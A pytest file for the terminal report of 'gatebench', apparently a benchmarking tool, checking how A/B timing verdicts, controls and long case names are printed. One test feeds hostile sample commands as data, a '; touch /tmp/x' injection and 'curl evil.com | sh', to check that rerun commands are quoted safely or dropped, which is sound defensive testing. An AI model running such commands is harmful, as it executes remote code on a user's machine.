"""The terminal's page of an A/B run: the verdict first, 100 columns, nothing cut."""

import re

import pytest
from ab_reports import EVERY, INCONCLUSIVE, REFUSED, SAME, SLOWER, case, report, side, verdict

from gatebench.report.ab_blocks import ab_blocks
from gatebench.report.ci.ab_json import ab_json
from gatebench.report.terminal import print_block


@pytest.fixture
def printed(capsys, monkeypatch):
    monkeypatch.delenv("COLUMNS", raising=False)

    def show(*cases, long=False, **other):
        for block in ab_blocks(ab_json(report(*cases, **other)), long):
            print_block(block)
        return capsys.readouterr().out

    return show


def test_the_page_reads_like_this(printed):
    assert printed(SLOWER, SAME) == """\
slower: 1 of 2 cases, worst lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward +3.2 % [2.6, 3.9]
  a change of 1.7 % or more would have been found in 80 % of runs in the median case (largest
  minimum detectable effect 2.1 %, lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward)
  more memory: 1 of 1 case, worst lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward +25.0 %

cases         slower   same
───────────────────────────
time               1      1
peak memory        1      0
error ratio        0      1
coverage           0      1

Slower
  lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward: +3.2 % [2.6, 3.9], 1.84 ms → 1.90 ms,
  detectable 2.1 %

Worse otherwise
  lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward: more memory, +25.0 %, 1 MiB → 1.25 MiB

Controls
  control 1, true change 0 %: same, 0 % [-0.40, 0.40], 1.00 ms → 1.00 ms, detectable 2.1 %
  control 2, true change +3.0 %: slower, +3.1 % [2.5, 3.6], 1.00 ms → 1.03 ms, detectable 2.1 %

Compared
  base: main (1c8aaf7000 docs: where gatebench is)
  head: working tree (71816db000, with uncommitted changes)
  largest error ratio of base: 1.1 (lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward, grad:x)
  largest error ratio of head: 1.1 (lstm/numba/T128-B16-I256-H256/float32/cpu-2/forward, grad:x)

  again: gatebench ab main quick
  recompute: gatebench compare --recompute 20261122T101500Z-4f1c

"""  # fmt: skip


def test_every_case_that_is_not_the_same_is_named_with_its_reason(printed):
    text = " ".join(printed(*EVERY, not_measured={"glu/native": "the time limit of 600 s"}).split())
    for words in (
        "Wrong or failed gru/mylab:fused/T128-B16-I256-H256/float32/cpu-2/forward: wrong: grad:x has error_ratio 31.2; at most 10 is accepted (coverage lost)",
        "rnn_tanh/mylab:fused/T128-B16-I256-H256/float32/cpu-2/forward: timeout: no answer within 300 s (base: timeout)",
        "Inconclusive glu/eager/T128-B16-I256-H256/float32/cpu-2/forward: +1.1 % [-1.2, 4.1], 1.00 ms → 1.01 ms, detectable 4.0 %; the interval -1.2 % to +4.1 % is wider than the margin of 3 %",
        "Faster gru/numba/T128-B16-I256-H256/float32/cpu-2/forward: -5.1 % [-5.6, -4.7], 1.00 ms → 950 µs",
        "glu/mylab:fused/T128-B16-I256-H256/float32/cpu-2/forward: new, – → 1.00 ms",
        "Not measured glu/native: the time limit of 600 s",
    ):  # fmt: skip
        assert words in text


def test_what_neither_side_can_run_is_said_once_for_each_reason(printed):
    twice = {**REFUSED, "case_id": "lstm/cudnn/T1-B1-I1-H1/float32/cpu-2/forward"}
    text = printed(SAME, REFUSED, twice)
    assert "Cannot run here, on neither side\n  cudnn: unavailable: no CUDA device (2 cases)\n" in text
    assert "Inconclusive\n" not in text


def test_what_is_inconclusive_beside_time_is_named(printed):
    found = case("lstm/compile", verdict("same"), verdict("inconclusive", quantity="compile", effect=None, reason="only 0 of 12 blocks"), base=side(), head=side())  # fmt: skip
    text = " ".join(printed(found).split())
    assert f"Undecided otherwise {found['case_id']}: compile time inconclusive, only 0 of 12 blocks" in text


def test_an_empty_run_says_that_nothing_was_compared(printed):
    assert printed().startswith("nothing was compared: no case has a time on both sides\n")


def test_failed_controls_are_said_first_and_again_beside_the_controls(printed):
    text = printed(SAME, control_failures=["the A/A control is slower"])
    assert text.startswith("unfit to judge: 1 control failed, first: the A/A control is slower")
    assert "Controls\n  failed: the A/A control is slower\n" in text


def test_names_that_are_too_long_are_folded_and_lose_nothing(printed):
    name = f"lstm/{'x' * 300}/end"
    text = printed(case(name, verdict("slower", 0.05, 0.04, 0.06), base=side(), head=side()))
    assert max(len(line) for line in text.splitlines()) <= 100
    assert name in re.sub(r"\n *", "", text)


def test_a_command_is_quoted_again_and_never_folded(printed):
    """A terminal's own fold is copied as one line; a line of its own would be a command of its own."""
    words = " ".join(f"word{number}" for number in range(60))
    text = printed(SAME, command=f"gatebench ab {words}; touch /tmp/x")
    assert f"\n  again: gatebench ab {words.removesuffix('word59')}'word59;' touch /tmp/x\n" in text
    assert "again: " not in printed(SAME, command=f"gatebench ab {words * 10}")
    assert "again: " not in printed(SAME, command="curl evil.com | sh")


def test_the_long_page_has_a_row_for_every_quantity_of_every_case(printed):
    document = ab_json(report(*EVERY))
    rows = [line for line in printed(*EVERY, long=True).splitlines() if re.match(r"\w+/[\w:]+/T128\S+ +\w", line)]
    assert len(rows) == sum(len(each["verdicts"]) for each in document["cases"])
    (row,) = (line for line in rows if line.startswith(INCONCLUSIVE["case_id"]))
    assert re.split(r"  +", row.strip())[1:] == ["time", "inconclusive", "1.00 ms", "1.01 ms", "+1.1 % [-1.2, 4.1]", "4.0 %"]  # fmt: skip
